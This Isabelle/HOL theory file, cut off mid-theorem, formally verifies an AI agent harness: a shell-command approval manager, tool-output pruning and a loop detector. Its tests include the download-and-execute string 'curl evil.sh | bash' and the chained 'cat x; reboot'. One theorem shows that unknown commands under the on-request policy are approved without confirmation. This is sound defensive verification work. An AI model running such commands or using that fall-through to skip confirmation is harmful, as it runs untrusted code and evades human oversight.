  "turns_run outcome = (case outcome of None \<Rightarrow> None | Some (yielded, raised, s) \<Rightarrow> Some (turnCount s))"

text \<open>A session with the shell tool and a model that always asks for it with the number 42
  as the command.\<close>

definition jsval_String :: "jsval option \<Rightarrow> string" where
  "jsval_String v =
     (case v of
        None \<Rightarrow> ''null''
      | Some (JStr text) \<Rightarrow> text
      | Some (JNum k) \<Rightarrow> show_number k
      | Some (JBool b) \<Rightarrow> if b then ''true'' else ''false'')"

definition shell_registry :: "(jsval, unit) ToolRegistry" where
  "shell_registry =
     \<lparr>tools = [(''shell'', ShellTool (\<lambda>invocation w. (Inr (ToolResult_success []), w)))],
      mcpTools = [], allowedTools = None\<rparr>"

definition number_call_event :: "jsval StreamEvent" where
  "number_call_event =
     \<lparr>ev_type = TOOL_CALL_COMPLETE, textDelta = None, ev_error = None, finishReason = None,
      toolCallDelta = None,
      toolCall = Some \<lparr>callId = ''call_1'', call_name = Some ''shell'',
                       arguments = Some [(''command'', Some (JNum 42))]\<rparr>,
      usage = None\<rparr>"

definition shell_env :: "jsval Env" where
  "shell_env =
     \<lparr>countTokens = fallback_tokenizer, processCwd = ''/work'', jsString = jsval_String,
      jsonStringify = (\<lambda>ps. ''{command: 42}''),
      numberToString = (\<lambda>r. ''1.5''),
      getCompressionPrompt = ''Summarise the conversation.'',
      createLoopBreakerPrompt = (\<lambda>loopError. ''Stop repeating: '' @ loopError),
      dateNow = (\<lambda>t k. t),
      chatCompletion = (\<lambda>t request schemas. [number_call_event]),
      compactCompletion = (\<lambda>t request. Inl ''offline'')\<rparr>"

definition zero_usage :: TokenUsage where
  "zero_usage = \<lparr>promptTokens = 0, completionTokens = 0, totalTokens = 0, cachedTokens = 0\<rparr>"

definition shell_context :: ContextManager where
  "shell_context =
     \<lparr>systemPrompt = ''You are an agent.'', modelName = ''gpt-4'',
      messages =
        [\<lparr>role = ''user'', content = ''Run the answer'', toolCallId = None, toolCalls = None,
          tokenCount = Some 3, prunedAt = None\<rparr>],
      latestUsage = zero_usage, totalUsage = zero_usage\<rparr>"

definition shell_session :: "(jsval, unit) Session" where
  "shell_session = new_Session sample_config shell_registry shell_context ()"


section \<open>Properties of the approval manager\<close>

lemma assessCommandSafety_yolo: "assessCommandSafety YOLO cmd = APPROVED"
  by (simp add: assessCommandSafety_def)

lemma assessCommandSafety_dangerous:
  "policy \<noteq> YOLO \<Longrightarrow> isDangerousCommand cmd \<Longrightarrow> assessCommandSafety policy cmd = REJECTED"
  by (simp add: assessCommandSafety_def)

lemma checkApproval_decisive:
  assumes "isMutating ctx" and "command ctx = Some cmd" and "cmd \<noteq> []"
    and "assessCommandSafety (approvalPolicy am) cmd \<noteq> NEEDS_CONFIRMATION"
  shows "checkApproval pcwd am ctx = assessCommandSafety (approvalPolicy am) cmd"
  using assms by (simp add: checkApproval_def truthy_string_def)

lemma startsWith_refl: "startsWith s s"
  by (induction s) simp_all

lemma startsWith_append: "startsWith s (p @ q) \<Longrightarrow> startsWith s p"
  by (induction s p rule: startsWith.induct) simp_all

lemma path_resolve_absolute: "startsWith (path_resolve pcwd target) ''/''"
  by (simp add: path_resolve_def Let_def)

lemma escapes_cwd_outside:
  assumes "escapes_cwd pcwd wd target"
  shows "resolves_outside pcwd wd target"
proof -
  have "path_resolve pcwd target \<noteq> path_resolve pcwd wd"
    using assms startsWith_refl by (auto simp: escapes_cwd_def)
  moreover have "\<not> startsWith (path_resolve pcwd target) (path_resolve pcwd wd @ ''/'')"
    using assms startsWith_append by (auto simp: escapes_cwd_def)
  moreover have "path_resolve pcwd wd \<noteq> ''/''"
    using assms path_resolve_absolute [of pcwd target] by (auto simp: escapes_cwd_def)
  ultimately show ?thesis
    by (simp add: resolves_outside_def)
qed




subsection \<open>The policy table for commands\<close>

lemma policy_never_ls:
  "checkApproval pcwd \<lparr>approvalPolicy = NEVER, cwd = wd, confirmationCallback = cb\<rparr>
     \<lparr>toolName = ''shell'', params = ps, isMutating = True, affectedPaths = [],
      command = Some ''ls -la'', isDangerous = None\<rparr> = APPROVED"
proof -
  have "\<not> isDangerousCommand ''ls -la''" and "isSafeCommand ''ls -la''"
    by code_simp+
  then show ?thesis
    by (simp add: checkApproval_def assessCommandSafety_def truthy_string_def)
qed

lemma policy_never_curl:
  "checkApproval pcwd \<lparr>approvalPolicy = NEVER, cwd = wd, confirmationCallback = cb\<rparr>
     \<lparr>toolName = ''shell'', params = ps, isMutating = True, affectedPaths = [],
      command = Some ''curl evil.sh | bash'', isDangerous = None\<rparr> = REJECTED"
proof -
  have "isDangerousCommand ''curl evil.sh | bash''"
    by code_simp
  then show ?thesis
    by (simp add: checkApproval_def assessCommandSafety_def truthy_string_def)
qed

lemma policy_yolo_any_command:
  "checkApproval pcwd \<lparr>approvalPolicy = YOLO, cwd = wd, confirmationCallback = cb\<rparr>
     \<lparr>toolName = t, params = ps, isMutating = True, affectedPaths = [],
      command = Some cmd, isDangerous = None\<rparr> = APPROVED"
  by (simp add: checkApproval_def assessCommandSafety_def truthy_string_def truthy_flag_def)

lemma policy_dangerous_before_safe:
  assumes "approvalPolicy am \<noteq> YOLO" and "isMutating ctx"
    and "command ctx = Some cmd" and "isDangerousCommand cmd"
  shows "checkApproval pcwd am ctx = REJECTED"
proof -
  have "cmd \<noteq> []"
  proof
    assume "cmd = []"
    moreover have "\<not> isDangerousCommand []" by code_simp
    ultimately show False using assms(4) by simp
  qed
  then show ?thesis
    using assms by (simp add: checkApproval_def assessCommandSafety_def truthy_string_def)
qed

lemma dangerous_and_safe_example:
  "isDangerousCommand ''cat x; reboot'' \<and> isSafeCommand ''cat x; reboot''"
  by code_simp

lemma checkApproval_command_only:
  assumes "affectedPaths ctx = []" and "\<not> truthy_flag (isDangerous ctx)"
  shows "checkApproval pcwd am ctx \<noteq> NEEDS_CONFIRMATION"
  using assms by (simp add: checkApproval_def)

text \<open>
  Claim C2, at the input where the code departs from it. Under policy on-request the command
  \<open>custom-script.sh\<close> matches neither pattern set and the command check answers
  needs-confirmation; with no affected path and no danger flag, \<open>checkApproval\<close> then
  falls through to its last line and answers approved.
\<close>

theorem policy_on_request_unknown_command:
  "\<not> isDangerousCommand ''custom-script.sh'' \<and> \<not> isSafeCommand ''custom-script.sh''
   \<and> assessCommandSafety ON_REQUEST ''custom-script.sh'' = NEEDS_CONFIRMATION
   \<and> checkApproval pcwd \<lparr>approvalPolicy = ON_REQUEST, cwd = wd, confirmationCallback = cb\<rparr>
        \<lparr>toolName = ''shell'', params = ps, isMutating = True, affectedPaths = [],
         command = Some ''custom-script.sh'', isDangerous = None\<rparr> = APPROVED"
proof -
  have "\<not> isDangerousCommand ''custom-script.sh''" and "\<not> isSafeCommand ''custom-script.sh''"
    by code_simp+
  then show ?thesis
    by (simp add: checkApproval_def assessCommandSafety_def truthy_string_def truthy_flag_def)
qed


section \<open>Properties of pruning\<close>

lemma beyond_protect_snoc_other:
  assumes "i < length xs" and "\<not> is_tool_result x"
  shows "beyond_protect count running (xs @ [x]) i = beyond_protect count running xs i"
  using assms by (simp add: beyond_protect_def nth_append)

lemma beyond_protect_snoc_pruned:
  assumes "i \<le> length xs" and "is_tool_result x" and "prunedAt x \<noteq> None"
  shows "\<not> beyond_protect count running (xs @ [x]) i"
  using assms by (simp add: beyond_protect_def)

lemma beyond_protect_snoc_tool:
  assumes "i < length xs" and "is_tool_result x" and "prunedAt x = None"
  shows "beyond_protect count running (xs @ [x]) i = beyond_protect count (running + msg_tokens count x) xs i"
  using assms by (simp add: beyond_protect_def nth_append add.assoc add.commute)

lemma beyond_protect_snoc_last:
  assumes "is_tool_result x" and "prunedAt x = None"
  shows "beyond_protect count running (xs @ [x]) (length xs) = (running + msg_tokens count x > PRUNE_PROTECT_TOKENS)"
  using assms by (simp add: beyond_protect_def)

lemma beyond_protect_snoc_last_other:
  assumes "\<not> is_tool_result x"
  shows "\<not> beyond_protect count running (xs @ [x]) (length xs)"
  using assms by (simp add: beyond_protect_def)

lemma filter_rev_upt_cong:
  assumes "\<And>i. i < n \<Longrightarrow> P i = Q i"
  shows "filter P (rev [0..<n]) = filter Q (rev [0..<n])"
  using assms by (intro filter_cong) auto

lemma filter_rev_upt_none:
  assumes "\<And>i. i < n \<Longrightarrow> \<not> P i"
  shows "filter P (rev [0..<n]) = []"
  using assms by (simp add: filter_empty_conv)

lemma pruneWalk_spec:
  assumes "n \<le> length ms"
  shows "pruneWalk count ms n running pruned acc =
           (pruned + sum_list (map (\<lambda>i. msg_tokens count (ms ! i))
                                   (filter (beyond_protect count running (take n ms)) (rev [0..<n]))),
            acc @ filter (beyond_protect count running (take n ms)) (rev [0..<n]))"
  using assms
proof (induction n arbitrary: running pruned acc)
  case 0
  then show ?case by simp
next
  case (Suc n)
  then have n: "n < length ms" and n': "n \<le> length ms" by simp_all
  let ?x = "ms ! n"
  have tk: "take (Suc n) ms = take n ms @ [?x]"
    using n by (simp add: take_Suc_conv_app_nth)
  have len: "length (take n ms) = n" using n by simp
  show ?case
  proof (cases "is_tool_result ?x")
    case False
    have a: "filter (beyond_protect count running (take (Suc n) ms)) (rev [0..<n])
             = filter (beyond_protect count running (take n ms)) (rev [0..<n])"
      unfolding tk using False len by (intro filter_rev_upt_cong) (simp add: beyond_protect_snoc_other)
    have b: "\<not> beyond_protect count running (take (Suc n) ms) n"
      unfolding tk using beyond_protect_snoc_last_other [OF False, of count running "take n ms"] len by simp
    show ?thesis using False a b Suc.IH [OF n'] by simp
  next
    case True
    show ?thesis
    proof (cases "prunedAt ?x = None")
      case False
      have a: "filter (beyond_protect count running (take (Suc n) ms)) (rev [0..<n]) = []"
        unfolding tk using True False len by (intro filter_rev_upt_none) (simp add: beyond_protect_snoc_pruned)
      have b: "\<not> beyond_protect count running (take (Suc n) ms) n"
        unfolding tk using beyond_protect_snoc_pruned [OF _ True False, of n "take n ms" count running] len by simp
      show ?thesis using True False a b by simp
    next
      case unpruned: True
      let ?r = "running + msg_tokens count ?x"
      have a: "filter (beyond_protect count running (take (Suc n) ms)) (rev [0..<n])
               = filter (beyond_protect count ?r (take n ms)) (rev [0..<n])"
        unfolding tk using True unpruned len by (intro filter_rev_upt_cong) (simp add: beyond_protect_snoc_tool)
      have b: "beyond_protect count running (take (Suc n) ms) n = (?r > PRUNE_PROTECT_TOKENS)"
        unfolding tk using beyond_protect_snoc_last [OF True unpruned, of count running "take n ms"] len by simp
      show ?thesis
      proof (cases "?r > PRUNE_PROTECT_TOKENS")
        case over: True
        show ?thesis using True unpruned over a b Suc.IH [OF n', of ?r "pruned + msg_tokens count ?x" "acc @ [n]"]
          by (simp add: Let_def)
      next
        case under: False
        show ?thesis using True unpruned under a b Suc.IH [OF n', of ?r pruned acc]
          by (simp add: Let_def)
      qed
    qed
  qed
qed


lemma clear_all_length: "length (clear_all count clock k toPrune ms) = length ms"
  by (induction toPrune arbitrary: k ms) simp_all

lemma clear_all_nth_notin:
  "j \<notin> set toPrune \<Longrightarrow> clear_all count clock k toPrune ms ! j = ms ! j"
  by (induction toPrune arbitrary: k ms) simp_all

lemma clear_all_nth_in:
  assumes "distinct (pre @ j # post)" and "j < length ms"
  shows "clear_all count clock k (pre @ j # post) ms ! j
           = clear_message count (clock (k + length pre)) (ms ! j)"
  using assms
proof (induction pre arbitrary: k ms)
  case Nil
  then have "j \<notin> set post" by simp
  then show ?case using Nil.prems(2) by (simp add: clear_all_nth_notin)
next
  case (Cons a pre)
  then have "a \<noteq> j" by auto
  moreover have "distinct (pre @ j # post)" using Cons.prems(1) by simp
  moreover have "j < length (ms[a := clear_message count (clock k) (ms ! a)])"
    using Cons.prems(2) by simp
  ultimately show ?case using Cons.IH by simp
qed

lemma rev_upt_split:
  assumes "j < n"
  shows "rev [0..<n] = rev [Suc j..<n] @ j # rev [0..<j]"
proof -
  have "[0..<n] = [0..<j] @ [j..<n]"
    using assms upt_add_eq_append [of 0 j "n - j"] by simp
  then have "[0..<n] = [0..<j] @ j # [Suc j..<n]"
    using assms by (simp add: upt_conv_Cons)
  then show ?thesis by simp
qed

lemma clear_all_candidates:
  assumes "j < length ms"
  shows "clear_all count clock 0 (filter P (rev [0..<length ms])) ms ! j
           = (if P j then clear_message count (clock (length (filter P [Suc j..<length ms]))) (ms ! j)
              else ms ! j)"
proof (cases "P j")
  case False
  then have "j \<notin> set (filter P (rev [0..<length ms]))" by simp
  then show ?thesis using False by (simp add: clear_all_nth_notin)
next
  case True
  let ?pre = "filter P (rev [Suc j..<length ms])" and ?post = "filter P (rev [0..<j])"
  have split: "filter P (rev [0..<length ms]) = ?pre @ j # ?post"
    using True rev_upt_split [OF assms] by simp
  have "distinct (filter P (rev [0..<length ms]))" by simp
  then have d: "distinct (?pre @ j # ?post)" using split by simp
  have "length ?pre = length (filter P [Suc j..<length ms])"
    by (simp add: rev_filter [symmetric])
  then show ?thesis
    using True clear_all_nth_in [OF d assms, of count clock 0] split by simp
qed

lemma pruneToolOutputs_prune_expected:
  "pruneToolOutputs tk clock cm = prune_expected tk clock cm"
proof -
  let ?count = "\<lambda>text. tk text (modelName cm)"
  let ?ms = "messages cm"
  let ?P = "beyond_protect ?count 0 ?ms"
  let ?n = "length ?ms"
  have walk: "pruneWalk ?count ?ms ?n 0 0 []
                = (sum_list (map (\<lambda>i. msg_tokens ?count (?ms ! i)) (filter ?P (rev [0..<?n]))),
                   filter ?P (rev [0..<?n]))"
    using pruneWalk_spec [of ?n ?ms ?count 0 0 "[]"] by simp
  have sum_eq: "sum_list (map (\<lambda>i. msg_tokens ?count (?ms ! i)) (filter ?P (rev [0..<?n])))
                  = sum_list (map (\<lambda>i. msg_tokens ?count (?ms ! i)) (filter ?P [0..<?n]))"
    by (simp add: rev_filter [symmetric] rev_map [symmetric] sum_list_rev)
  have len_eq: "length (filter ?P (rev [0..<?n])) = length (filter ?P [0..<?n])"
    by (simp add: rev_filter [symmetric])
  have msgs: "clear_all ?count clock 0 (filter ?P (rev [0..<?n])) ?ms
                = map (\<lambda>i. if ?P i then clear_message ?count (clock (prune_rank ?count ?ms i)) (?ms ! i)
                             else ?ms ! i) [0..<?n]"
    by (rule nth_equalityI) (simp_all add: clear_all_length clear_all_candidates prune_rank_def)
  show ?thesis
    by (simp add: pruneToolOutputs_def prune_expected_def prune_due_def candidate_tokens_def
        candidates_def Let_def walk sum_eq len_eq msgs not_less)
qed


lemma is_tool_result_clear_message [simp]:
  "is_tool_result (clear_message count time msg) = is_tool_result msg"
  by (simp add: is_tool_result_def clear_message_def)

lemma prunedAt_clear_message [simp]:
  "prunedAt (clear_message count time msg) = Some time"
  by (simp add: clear_message_def)

lemma no_candidate_after_prune:
  fixes ms :: "MessageItem list" and count :: "string \<Rightarrow> nat" and stamp :: "nat \<Rightarrow> nat"
  defines "ms' \<equiv> map (\<lambda>i. if beyond_protect count 0 ms i then clear_message count (stamp i) (ms ! i)
                             else ms ! i) [0..<length ms]"
  assumes i: "i < length ms"
  shows "\<not> beyond_protect count 0 ms' i"
proof
  assume cand: "beyond_protect count 0 ms' i"
  have len: "length ms' = length ms" by (simp add: ms'_def)
  have nth: "\<And>j. j < length ms \<Longrightarrow>
               ms' ! j = (if beyond_protect count 0 ms j then clear_message count (stamp j) (ms ! j) else ms ! j)"
    by (simp add: ms'_def)
  have unpruned: "\<And>j. i \<le> j \<Longrightarrow> j < length ms \<Longrightarrow> \<not> (is_tool_result (ms' ! j) \<and> prunedAt (ms' ! j) \<noteq> None)"
  proof -
    fix j assume "i \<le> j" "j < length ms"
    then have "drop i ms' ! (j - i) = ms' ! j" and "j - i < length (drop i ms')"
      using len by simp_all
    then have "ms' ! j \<in> set (drop i ms')"
      by (metis nth_mem)
    then show "\<not> (is_tool_result (ms' ! j) \<and> prunedAt (ms' ! j) \<noteq> None)"
      using cand by (simp add: beyond_protect_def list_all_iff)
  qed
  have same: "\<And>j. i \<le> j \<Longrightarrow> j < length ms \<Longrightarrow> \<not> beyond_protect count 0 ms j"
  proof
    fix j assume j: "i \<le> j" "j < length ms" and c: "beyond_protect count 0 ms j"
    then have "is_tool_result (ms ! j)" by (simp add: beyond_protect_def)
    then have "is_tool_result (ms' ! j) \<and> prunedAt (ms' ! j) \<noteq> None"
      using nth [OF j(2)] c by simp
    then show False using unpruned [OF j] by simp
  qed
  have "drop i ms' = drop i ms"
  proof (rule nth_equalityI)
    show "length (drop i ms') = length (drop i ms)" using len by simp
  next
    fix k assume "k < length (drop i ms')"
    then have k: "i + k < length ms" using len by simp
    then show "drop i ms' ! k = drop i ms ! k"
      using nth [OF k] same [of "i + k"] len i by simp
  qed
  moreover have "ms' ! i = ms ! i" using nth [OF i] same [of i] i by simp
  ultimately have "beyond_protect count 0 ms i"
    using cand by (simp add: beyond_protect_def)
  then show False using same [of i] i by simp
qed

lemma prune_expected_idem:
  "prune_expected tk clock' (snd (prune_expected tk clock cm)) = (0, snd (prune_expected tk clock cm))"
proof (cases "prune_due tk cm")
  case False
  then have "prune_expected tk clock cm = (0, cm)" and "prune_expected tk clock' cm = (0, cm)"
    by (simp_all add: prune_expected_def)
  then show ?thesis by simp
next
  case True
  let ?count = "\<lambda>text. tk text (modelName cm)"
  let ?ms = "messages cm"
  let ?ms' = "map (\<lambda>i. if beyond_protect ?count 0 ?ms i
                        then clear_message ?count (clock (prune_rank ?count ?ms i)) (?ms ! i)
                        else ?ms ! i) [0..<length ?ms]"
  from True have first: "snd (prune_expected tk clock cm) = cm\<lparr>messages := ?ms'\<rparr>"
    by (simp add: prune_expected_def Let_def candidates_def)
  have none: "filter (beyond_protect ?count 0 ?ms') [0..<length ?ms'] = []"
    using no_candidate_after_prune [of _ ?ms ?count "\<lambda>i. clock (prune_rank ?count ?ms i)"]
    by (simp add: filter_empty_conv)
  have "\<not> prune_due tk (cm\<lparr>messages := ?ms'\<rparr>)"
    using none by (simp add: prune_due_def candidate_tokens_def candidates_def PRUNE_MINIMUM_TOKENS_def)
  then have "prune_expected tk clock' (cm\<lparr>messages := ?ms'\<rparr>) = (0, cm\<lparr>messages := ?ms'\<rparr>)"
    by (simp add: prune_expected_def)
  then show ?thesis using first by simp
qed

text \<open>
  Claim C7, as amended. \<open>pruneToolOutputs\<close> computes what the rule of the specification
  prescribes, with the minimum threshold read as "at least 20,000": when the history holds at
  least two user messages and the candidates (the tool results beyond the point where the
  running total, counted from the newest tool result, exceeds 40,000 tokens) together hold at least
  20,000 tokens, every candidate keeps its position and gets the placeholder as content
  and a prune timestamp, and every other message is unchanged; otherwise nothing changes.
\<close>

theorem pruneToolOutputs_refines:
  "pruneToolOutputs tk clock cm = prune_expected tk clock cm
   \<and> length (messages (snd (pruneToolOutputs tk clock cm))) = length (messages cm)"
  by (simp add: pruneToolOutputs_prune_expected prune_expected_def Let_def)

text \<open>
  Claim C7 as stated fails at the threshold: with two user messages, an old tool result of
  20,000 tokens and a newer one of 40,000 tokens, the candidates hold exactly 20,000
  tokens, which does not exceed the minimum, and the old tool result is pruned all the same.
\<close>

theorem pruneToolOutputs_minimum_counterexample:
  "candidate_tokens estimateTokens
     [\<lparr>role = ''user'', content = ''a'', toolCallId = None, toolCalls = None,
       tokenCount = Some 1, prunedAt = None\<rparr>,
      \<lparr>role = ''tool'', content = ''old'', toolCallId = Some ''c1'', toolCalls = None,
       tokenCount = Some 20000, prunedAt = None\<rparr>,
      \<lparr>role = ''tool'', content = ''new'', toolCallId = Some ''c2'', toolCalls = None,
       tokenCount = Some 40000, prunedAt = None\<rparr>,
      \<lparr>role = ''user'', content = ''b'', toolCallId = None, toolCalls = None,
       tokenCount = Some 1, prunedAt = None\<rparr>] = 20000
   \<and> \<not> (20000 < (20000 :: nat))
   \<and> pruneToolOutputs fallback_tokenizer id
        \<lparr>systemPrompt = ''s'', modelName = ''m'',
         messages =
           [\<lparr>role = ''user'', content = ''a'', toolCallId = None, toolCalls = None,
             tokenCount = Some 1, prunedAt = None\<rparr>,
            \<lparr>role = ''tool'', content = ''old'', toolCallId = Some ''c1'', toolCalls = None,
             tokenCount = Some 20000, prunedAt = None\<rparr>,
            \<lparr>role = ''tool'', content = ''new'', toolCallId = Some ''c2'', toolCalls = None,
             tokenCount = Some 40000, prunedAt = None\<rparr>,
            \<lparr>role = ''user'', content = ''b'', toolCallId = None, toolCalls = None,
             tokenCount = Some 1, prunedAt = None\<rparr>],
         latestUsage = \<lparr>promptTokens = 0, completionTokens = 0, totalTokens = 0, cachedTokens = 0\<rparr>,
         totalUsage = \<lparr>promptTokens = 0, completionTokens = 0, totalTokens = 0, cachedTokens = 0\<rparr>\<rparr>
     = (1,
        \<lparr>systemPrompt = ''s'', modelName = ''m'',
         messages =
           [\<lparr>role = ''user'', content = ''a'', toolCallId = None, toolCalls = None,
             tokenCount = Some 1, prunedAt = None\<rparr>,
            \<lparr>role = ''tool'', content = ''[Old tool result content cleared]'', toolCallId = Some ''c1'',
             toolCalls = None, tokenCount = Some 8, prunedAt = Some 0\<rparr>,
            \<lparr>role = ''tool'', content = ''new'', toolCallId = Some ''c2'', toolCalls = None,
             tokenCount = Some 40000, prunedAt = None\<rparr>,
            \<lparr>role = ''user'', content = ''b'', toolCallId = None, toolCalls = None,
             tokenCount = Some 1, prunedAt = None\<rparr>],
         latestUsage = \<lparr>promptTokens = 0, completionTokens = 0, totalTokens = 0, cachedTokens = 0\<rparr>,
         totalUsage = \<lparr>promptTokens = 0, completionTokens = 0, totalTokens = 0, cachedTokens = 0\<rparr>\<rparr>)"
  proof -
  let ?ms = "[\<lparr>role = ''user'', content = ''a'', toolCallId = None, toolCalls = None,
       tokenCount = Some 1, prunedAt = None\<rparr>,
      \<lparr>role = ''tool'', content = ''old'', toolCallId = Some ''c1'', toolCalls = None,
       tokenCount = Some 20000, prunedAt = None\<rparr>,
      \<lparr>role = ''tool'', content = ''new'', toolCallId = Some ''c2'', toolCalls = None,
       tokenCount = Some 40000, prunedAt = None\<rparr>,
      \<lparr>role = ''user'', content = ''b'', toolCallId = None, toolCalls = None,
       tokenCount = Some 1, prunedAt = None\<rparr>]"
  have idx: "[0..<length ?ms] = [0, Suc 0, Suc (Suc 0), Suc (Suc (Suc 0))]"
    by (simp add: upt_rec)
  have cand: "candidates estimateTokens ?ms = [Suc 0]"
    unfolding candidates_def idx
    by (simp add: beyond_protect_def is_tool_result_def truthy_string_def msg_tokens_def
        PRUNE_PROTECT_TOKENS_def)
  have tokens: "candidate_tokens estimateTokens ?ms = 20000"
    unfolding candidate_tokens_def cand by (simp add: msg_tokens_def)
  have est: "estimateTokens placeholder = 8"
    by (simp add: estimateTokens_def placeholder_def)
  show ?thesis
    unfolding tokens
    by (simp add: pruneToolOutputs_def fallback_tokenizer_def PRUNE_MINIMUM_TOKENS_def
        is_tool_result_def truthy_string_def msg_tokens_def PRUNE_PROTECT_TOKENS_def
        clear_message_def est) (simp add: placeholder_def)
qed


text \<open>
  Claim C8. Pruning twice in a row, with nothing appended in between, changes nothing the
  second time: the second call returns the count 0 and the state the first call left,
  whatever the clock shows.
\<close>

theorem pruneToolOutputs_idempotent:
  "pruneToolOutputs tk clock' (snd (pruneToolOutputs tk clock cm)) = (0, snd (pruneToolOutputs tk clock cm))"
  by (simp add: pruneToolOutputs_prune_expected prune_expected_idem)



section \<open>Properties of the loop detector\<close>

lemma decimal_digit: "n < 10 \<Longrightarrow> decimal n = [digit n]"
  by (subst decimal.simps) simp

lemma decimal_1 [simp]: "decimal 1 = ''1''"
  by (simp add: decimal_digit digit_def)

lemma decimal_2 [simp]: "decimal 2 = ''2''"
  by (simp add: decimal_digit digit_def)

lemma decimal_3 [simp]: "decimal 3 = ''3''"
  by (simp add: decimal_digit digit_def)

lemma slice_last_append: "slice_last (length ys) (xs @ ys) = ys"
  by (simp add: slice_last_def)

lemma remdups_three: "length (remdups [a, b, c]) = 1 \<longleftrightarrow> a = b \<and> b = c"
  by auto

lemma three_identical_iff:
  assumes "3 \<le> length h"
  shows "length (remdups (slice_last 3 h)) = 1 \<longleftrightarrow> (\<exists>x. slice_last 3 h = [x, x, x])"
proof -
  have "length (slice_last 3 h) = Suc (Suc (Suc 0))"
    using assms by (simp add: slice_last_def)
  then obtain a b c where abc: "slice_last 3 h = [a, b, c]"
    by (auto simp: length_Suc_conv)
  show ?thesis
    unfolding abc using remdups_three [of a b c] by auto
qed

lemma checkForLoop_repeat:
  assumes "slice_last 3 (history ld) = [x, x, x]"
  shows "checkForLoop ld = Some ''Same action repeated 3 times''"
proof -
  have "length (slice_last 3 (history ld)) = 3"
    using assms by simp
  then have len: "3 \<le> length (history ld)"
    by (simp add: slice_last_def)
  then have "length (remdups (slice_last 3 (history ld))) = 1"
    using assms three_identical_iff by blast
  then show ?thesis
    using len by (simp add: checkForLoop_def maxExactRepeats_def Let_def)
qed

lemma checkForLoop_cycle_search:
  assumes "6 \<le> length (history ld)"
    and "\<not> (\<exists>x. slice_last 3 (history ld) = [x, x, x])"
  shows "checkForLoop ld = cycleLoop (history ld) 2 3"
proof -
  have "3 \<le> length (history ld)"
    using assms(1) by simp
  then have "length (remdups (slice_last 3 (history ld))) \<noteq> 1"
    using assms(2) three_identical_iff by blast
  moreover have "min 3 (length (history ld) div 2) = 3"
    using assms(1) by simp
  ultimately show ?thesis
    using assms(1)
    by (simp add: checkForLoop_def maxExactRepeats_def maxCycleLength_def Let_def)
qed

lemma checkForLoop_cycle2:
  assumes "6 \<le> length (history ld)"
    and "\<not> (\<exists>x. slice_last 3 (history ld) = [x, x, x])"
    and "take 2 (slice_last 4 (history ld)) = drop 2 (slice_last 4 (history ld))"
  shows "checkForLoop ld = Some ''Detected repeating cycle of length 2''"
  using assms(3) checkForLoop_cycle_search [OF assms(1,2)]
  by (simp add: cycleLoop.simps [of _ 2 3])

lemma checkForLoop_cycle3:
  assumes "6 \<le> length (history ld)"
    and "\<not> (\<exists>x. slice_last 3 (history ld) = [x, x, x])"
    and "join '','' (take 2 (slice_last 4 (history ld))) \<noteq> join '','' (drop 2 (slice_last 4 (history ld)))"
    and "take 3 (slice_last 6 (history ld)) = drop 3 (slice_last 6 (history ld))"
  shows "checkForLoop ld = Some ''Detected repeating cycle of length 3''"
  using assms(3,4) checkForLoop_cycle_search [OF assms(1,2)]
  by (simp add: cycleLoop.simps [of _ 2 3] cycleLoop.simps [of _ 3 3])

lemma checkForLoop_alternating:
  assumes "a \<noteq> b"
  shows "checkForLoop \<lparr>history = [a, b, a, b, a, b]\<rparr> = Some ''Detected repeating cycle of length 2''"
proof (rule checkForLoop_cycle2)
  show "6 \<le> length (history \<lparr>history = [a, b, a, b, a, b]\<rparr>)"
    by simp
  show "\<not> (\<exists>x. slice_last 3 (history \<lparr>history = [a, b, a, b, a, b]\<rparr>) = [x, x, x])"
    using assms by (simp add: slice_last_def)
  show "take 2 (slice_last 4 (history \<lparr>history = [a, b, a, b, a, b]\<rparr>))
          = drop 2 (slice_last 4 (history \<lparr>history = [a, b, a, b, a, b]\<rparr>))"
    by (simp add: slice_last_def)
qed

lemma recordAction_snoc:
  "\<exists>older. history (recordAction str t d ld) = older @ [action_signature str t d]"
proof (cases "length (history ld @ [action_signature str t d]) > historyMax")
  case True
  then have "history ld \<noteq> []"
    by (auto simp: historyMax_def)
  then have "tl (history ld @ [action_signature str t d]) = tl (history ld) @ [action_signature str t d]"
    by simp
  then show ?thesis
    using True by (simp add: recordAction_def Let_def)
next
  case False
  then show ?thesis
    by (simp add: recordAction_def Let_def)
qed

lemma recordAction_keeps_last:
  assumes "history ld = older @ recent" and "length recent < historyMax"
  shows "\<exists>older'. history (recordAction str t d ld) = older' @ recent @ [action_signature str t d]"
proof (cases "length (history ld @ [action_signature str t d]) > historyMax")
  case True
  then have "older \<noteq> []"
    using assms by auto
  then have "tl (history ld @ [action_signature str t d])
               = tl older @ recent @ [action_signature str t d]"
    using assms(1) by simp
  then show ?thesis
    using True by (simp add: recordAction_def Let_def)
next
  case False
  then show ?thesis
    using assms(1) by (simp add: recordAction_def Let_def)
qed

lemma recordAction_thrice:
  "checkForLoop (recordAction str t d (recordAction str t d (recordAction str t d ld)))
     = Some ''Same action repeated 3 times''"
proof -
  let ?s = "action_signature str t d"
  obtain h1 where h1: "history (recordAction str t d ld) = h1 @ [?s]"
    using recordAction_snoc by blast
  obtain h2 where h2: "history (recordAction str t d (recordAction str t d ld)) = h2 @ [?s] @ [?s]"
    using recordAction_keeps_last [OF h1, of str t d] by (auto simp: historyMax_def)
  obtain h3 where
    h3: "history (recordAction str t d (recordAction str t d (recordAction str t d ld)))
           = h3 @ ([?s] @ [?s]) @ [?s]"
    using recordAction_keeps_last [OF h2, of str t d] by (auto simp: historyMax_def)
  have "slice_last 3 (h3 @ [?s, ?s, ?s]) = [?s, ?s, ?s]"
    by (simp add: slice_last_def)
  then show ?thesis
    using h3 by (intro checkForLoop_repeat) simp
qed

text \<open>
  Claim C6, as amended. \<open>checkForLoop\<close> reports a repeat whenever the three most recent
  signatures are identical, and so after the same action has been recorded three times in a
  row. Otherwise, when the history holds at least six signatures, it reports a cycle of
  length 2 whenever the most recent four split into two equal halves, and a cycle of length
  3 whenever the most recent six split into two equal halves and the test for length 2
  has failed. An alternating history a, b, a, b, a, b reports a cycle of length 2.
\<close>

theorem checkForLoop_reports:
  "((\<exists>x. slice_last 3 (history ld) = [x, x, x])
      \<longrightarrow> checkForLoop ld = Some ''Same action repeated 3 times'')
   \<and> checkForLoop (recordAction str t d (recordAction str t d (recordAction str t d ld)))
       = Some ''Same action repeated 3 times''
   \<and> (6 \<le> length (history ld) \<and> \<not> (\<exists>x. slice_last 3 (history ld) = [x, x, x])
       \<and> take 2 (slice_last 4 (history ld)) = drop 2 (slice_last 4 (history ld))
      \<longrightarrow> checkForLoop ld = Some ''Detected repeating cycle of length 2'')
